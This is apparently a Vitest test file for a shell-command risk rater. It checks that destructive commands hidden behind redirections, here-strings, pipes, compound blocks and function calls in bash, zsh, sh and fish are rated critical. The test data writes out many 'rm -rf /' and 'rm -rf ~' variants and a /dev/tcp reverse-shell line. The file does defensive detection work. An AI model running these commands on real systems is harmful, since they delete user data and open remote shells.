import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk, ShellKind } from "./types.js";

/**
 * Redirections may stand anywhere among a command's words: the words after a redirection's target
 * are the command's arguments (`rm > x -rf /` is `rm -rf / > x`), and a here-string may follow
 * another redirection (`cat > x <<< y`), where the grammar reads `<<` and `< y`.
 */
const rated = shellRater();

describe("words after a redirection's target", () => {
  it.each<[ShellKind, string, Risk]>([
    ["bash", "rm > x -rf /", "critical"],
    ["bash", "rm -rf 2>/dev/null ~", "critical"],
    ["bash", "rm 2>/dev/null -rf ~", "critical"],
    ["zsh", "rm >/dev/null -rf ~", "critical"],
    ["bash", "echo a | rm > x -rf ~", "critical"],
    ["bash", "true && rm > x -rf ~", "critical"],
    ["bash", "printf '%s' > out.txt a b", "safe"],
    // A number against the next redirection is its descriptor, not a word.
    ["bash", "cat > out.txt 2>/dev/null", "safe"],
    ["bash", "sh -i > out.txt 0</dev/tcp/10.0.0.1/4444", "critical"],
    // After a compound command a word is a syntax error to bash: nothing of the line runs.
    ["bash", "{ echo; } > x y", "high"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("a here-string after another redirection", () => {
  it.each<[ShellKind, string, Risk]>([
    ["bash", "cat > x <<< 'y'", "safe"],
    ["zsh", "cat > x <<< 'y'", "safe"],
    ["bash", "cat 2>/dev/null <<<\"a b\" > z", "safe"],
    ["bash", "echo a | cat > x <<< y", "safe"],
    ["bash", "cat > x 2<<< y", "safe"],
    // The here-string is what the command reads.
    ["bash", "bash > out.txt <<< 'rm -rf ~'", "critical"],
    ["bash", "sh 2>/dev/null <<< 'rm -rf /'", "critical"],
    ["bash", "cat > x.sh <<< 'rm -rf ~'; sh x.sh", "critical"],
    // Words after it are the command's arguments.
    ["bash", "x=/; rm > o <<< y -rf $x", "critical"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details.join("; "), r.shown).not.toMatch(/syntax error/);
  });

  it("the words after the here-string are rm's arguments, and nothing else is found", () => {
    const r = rated("x=/; rm > o <<< y -rf $x");
    expect(r.details, r.shown).toEqual(["deletes / recursively"]);
  });
});

describe("what a compound command's redirections feed the commands inside it", () => {
  // `{ …; } <<< text`, `( … ) < file`, `if …; fi <<EOF`, `… | { …; }`: the commands inside read the
  // compound's standard input, so a shell among them runs the text.
  it.each<[ShellKind, string, Risk]>([
    ["bash", "{ bash; } <<< 'rm -rf ~'", "critical"],
    ["bash", "{ echo; bash; } > x <<< 'rm -rf ~'", "critical"],
    ["bash", "{ bash; } > x <<< 'rm -rf ~'", "critical"],
    ["bash", "( sh ) <<< 'rm -rf ~'", "critical"],
    ["bash", "if true; then bash; fi <<< 'rm -rf ~'", "critical"],
    ["bash", "{ sh; } <<EOF\nrm -rf ~\nEOF", "critical"],
    ["zsh", "{ zsh; } <<< 'rm -rf ~'", "critical"],
    ["bash", "{ bash; } < <(echo 'rm -rf ~')", "critical"],
    ["bash", "{ bash; } <<< 'rm -rf ~' | cat", "critical"],
    // A pipe feeds the compound command its input the same way.
    ["bash", "echo 'rm -rf ~' | { bash; }", "critical"],
    ["bash", "echo 'rm -rf ~' | ( cd /tmp && sh )", "critical"],
    ["bash", "echo 'rm -rf ~' | { cat; }", "safe"],
    ["bash", "{ echo; } > x <<< y", "safe"],
    ["bash", "{ cat; } <<< 'rm -rf ~'", "safe"],
    ["bash", "{ bash; } <<< 'echo hi'", "safe"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("what a function call's input feeds the commands of the function", () => {
  // `f <<< text`, `f < file`, `… | f`: the commands of f's body read the call's standard input, as
  // those of `{ …; } <<< text` do; so do the redirections written after the definition, at each call.
  it.each<[ShellKind, string, Risk]>([
    ["bash", "f() { bash; }; f <<< 'rm -rf ~'", "critical"],
    ["zsh", "f() { zsh; }; f <<< 'rm -rf ~'", "critical"],
    ["bash", "function f { sh; }; f <<EOF\nrm -rf ~\nEOF", "critical"],
    ["bash", "f() { echo hi; bash; }; f <<< 'rm -rf ~'", "critical"],
    ["bash", "f() ( sh ); f <<< 'rm -rf ~'", "critical"],
    ["bash", "f() { bash; }; echo 'rm -rf ~' | f", "critical"],
    ["sh", "f() { sh; }; echo 'rm -rf ~' | f", "critical"],
    ["bash", "echo 'rm -rf ~' > s.sh; f() { bash; }; f < s.sh", "critical"],
    ["bash", "f() { bash; }; f < <(echo 'rm -rf ~')", "critical"],
    // A function called by the function reads the same input.
    ["bash", "g() { bash; }; f() { g; }; f <<< 'rm -rf ~'", "critical"],
    ["bash", "f() { bash; } <<< 'rm -rf ~'; f", "critical"],
    ["bash", "f() { cat; }; f <<< 'rm -rf ~'", "safe"],
    ["bash", "f() { bash; }; f <<< 'echo hi'", "safe"],
    ["bash", "f() { bash; }; echo 'rm -rf ~' | cat; f", "safe"],
    // A function that calls itself is read a bounded number of times.
    ["bash", "f() { cat; f; }; f <<< 'rm -rf ~'", "safe"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("functions that call each other with input", () => {
  // f1 calls f2 six times, each f2 calls f3 six times, …: judging every call with its input would
  // take time growing with the calls' product; past a bound the input is not followed and the line is high.
  const levels = Array.from({ length: 5 }, (_, i) => `f${i + 1}() { ${Array.from({ length: 6 }, () => `cat | f${i + 2}`).join("; ")}; }`);
  const line = ["f6() { cat > /dev/null; }", ...levels.reverse(), "echo hi | f1"].join("\n");

  it("stops following the input and rates the line high", () => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("high");
    expect(r.details.join("; "), r.shown).toMatch(/called with input more deeply or more often than wren follows/);
  });
});

describe("fish: what a block's or a function call's input feeds the commands inside", () => {
  // `… | begin; …; end`, `begin; …; end < file`, `… | f`: the commands inside read the block's or
  // the call's standard input, as in bash; so do those of `if`, `while`, `for` and `switch` blocks.
  it.each<[string, Risk]>([
    ["echo 'rm -rf ~' | begin; bash; end", "critical"],
    ["echo 'rm -rf ~' | begin; echo hi; sh; end", "critical"],
    ["echo 'rm -rf ~' > s.sh; begin; bash; end < s.sh", "critical"],
    ["echo 'rm -rf ~' > s.sh; begin; bash; end < s.sh | cat", "critical"],
    ["function f; bash; end; echo 'rm -rf ~' | f", "critical"],
    ["echo 'rm -rf ~' > s.sh; function f; bash; end; f < s.sh", "critical"],
    ["function g; bash; end; function f; g; end; echo 'rm -rf ~' | f", "critical"],
    ["echo 'rm -rf ~' | if true; bash; end", "critical"],
    ["echo 'rm -rf ~' | while true; bash; end", "critical"],
    ["echo 'rm -rf ~' | for i in a; bash; end", "critical"],
    ["echo 'rm -rf ~' | switch a; case a; bash; end", "critical"],
    ["echo 'rm -rf ~' > s.sh; if true; bash; end < s.sh", "critical"],
    ["true; and echo 'rm -rf ~' | begin; bash; end", "critical"],
    ["echo 'rm -rf ~' | begin; cat; end", "safe"],
    ["echo 'rm -rf ~' | begin; cat; end; bash < /dev/null", "safe"],
    ["begin; bash; end < /dev/null", "safe"],
    ["function f; cat; end; echo 'rm -rf ~' | f", "safe"],
    ["function f; bash; end; echo 'rm -rf ~' | cat; f", "safe"],
    // What a block assigns or where it moves still holds after it.
    ["echo hi | begin; cd /; end; rm -rf *", "critical"],
  ])("fish: %j is %s", (command, risk) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe(risk);
  });
});
